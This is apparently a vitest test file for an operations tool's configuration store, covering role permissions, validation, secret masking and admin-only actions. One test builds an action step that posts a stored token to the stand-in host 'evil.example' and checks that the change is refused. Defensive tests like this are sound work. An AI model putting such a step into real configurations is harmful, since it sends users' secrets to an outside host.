import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { createTestDatabase, type TestDatabase } from '../../adapters/postgres/testing.ts'
import { ServiceConfig } from '../../contract/service.ts'
import { ActionConfig, RunnerConfig } from '../../core/config/schema/action.ts'
import { readStoredEntries } from '../../engine/configuration/stored.ts'
import { createConfigurationStub } from '../configuration-testing.ts'
import { actingAs, createTestContext, somebody, type TestContext } from '../testing.ts'
import { createEntry } from './create-entry.ts'
import { deleteEntry } from './delete-entry.ts'
import { replaceEntry } from './replace-entry.ts'

const KEY = 'b3BzZGVjayBleGFtcGxlIGtleSwgMzIgYnl0ZXMhISE='
const runner = (more: object = {}) =>
  RunnerConfig.parse({
    slug: 'host',
    name: 'Host',
    url: 'http://10.0.0.5:9440',
    secrets: { key: KEY },
    ...more,
  })
const action = (more: object = {}) =>
  ActionConfig.parse({
    service: 'api',
    slug: 'fix',
    name: 'Fix',
    secrets: { token: 't0ken' },
    steps: [
      { kind: 'runner', runner: 'host', command: 'fix' },
      { kind: 'http', url: 'https://h/', body: '{{token}}' },
    ],
    ...more,
  })

let database: TestDatabase
let ctx: TestContext & { configuration: ReturnType<typeof createConfigurationStub> }

beforeAll(async () => {
  database = await createTestDatabase()
})
afterAll(() => database.drop())
beforeEach(async () => {
  await database.pool.query('TRUNCATE entries')
  const service = { ...ServiceConfig.parse({ slug: 'api', name: 'API' }), source: 'file' as const }
  const configuration = createConfigurationStub({ services: [service] })
  ctx = { ...createTestContext(database.pool), configuration }
})

const as = (role: Parameters<typeof somebody>[0]) => actingAs(ctx, somebody(role))

test('actions are for engineers, runners for admins', async () => {
  await expect(createEntry('runner')(as('engineer'), runner())).rejects.toMatchObject({ code: 'forbidden' })
  await createEntry('runner')(as('admin'), runner())
  await expect(createEntry('action')(as('oncall'), action())).rejects.toMatchObject({ code: 'forbidden' })
  await createEntry('action')(as('engineer'), action())
  await expect(deleteEntry('runner')(as('admin'), { key: 'host' })).rejects.toMatchObject({
    code: 'conflict',
    message: 'the action "api/fix" names it: change that one first',
  })
})

test('what the schema cannot see is refused with its place', async () => {
  await expect(createEntry('action')(as('engineer'), action())).rejects.toMatchObject({
    code: 'invalid',
    issues: [{ path: 'steps.0.runner', message: 'runner: there is no runner "host"' }],
  })
})

test('secrets are sealed, come back as dots, and are kept by them for whom they were given', async () => {
  await createEntry('runner')(as('admin'), runner())
  const { config } = await createEntry('action')(as('engineer'), action())
  expect(config.secrets).toEqual({ token: '••••' })
  const shown = JSON.stringify([await ctx.db.entry.findMany(), await ctx.db.auditEntry.findMany()], (_, v) =>
    typeof v === 'bigint' ? String(v) : v,
  )
  expect(shown).not.toContain('t0ken')
  expect(shown).not.toContain(KEY)
  const replace = replaceEntry('action')
  await replace(as('engineer'), { key: 'api/fix', config: { ...config, name: 'Fix it' } })
  const { entries } = await readStoredEntries(ctx.db, ctx.secrets)
  expect(entries.action[0]).toMatchObject({ name: 'Fix it', secrets: { token: 't0ken' } })
  expect(entries.runner[0]?.secrets.key).toBe(KEY)
  const [first] = config.steps
  const steps = [first, { kind: 'http', url: 'https://evil.example/', body: '{{token}}' }]
  const moved = { ...ActionConfig.parse({ ...action(), steps }), secrets: config.secrets }
  await expect(replace(as('engineer'), { key: 'api/fix', config: moved })).rejects.toMatchObject({
    code: 'invalid',
    issues: [{ path: 'secrets' }],
  })
})

test('V-86: what is for admins alone is theirs to make, to change and to remove', async () => {
  const steps = [{ kind: 'http', url: 'https://h/' }]
  const watchdog = action({ slug: 'watchdog', admins_only: true, steps })
  const forbidden = { code: 'forbidden', message: 'this is for Admin only' }
  await expect(createEntry('action')(as('engineer'), watchdog)).rejects.toMatchObject(forbidden)
  await createEntry('action')(as('admin'), watchdog)
  const key = 'api/watchdog'
  const opened = { key, config: { ...watchdog, admins_only: false } }
  await expect(replaceEntry('action')(as('engineer'), opened)).rejects.toMatchObject(forbidden)
  await expect(deleteEntry('action')(as('engineer'), { key })).rejects.toMatchObject(forbidden)
  await deleteEntry('action')(as('admin'), { key })
})
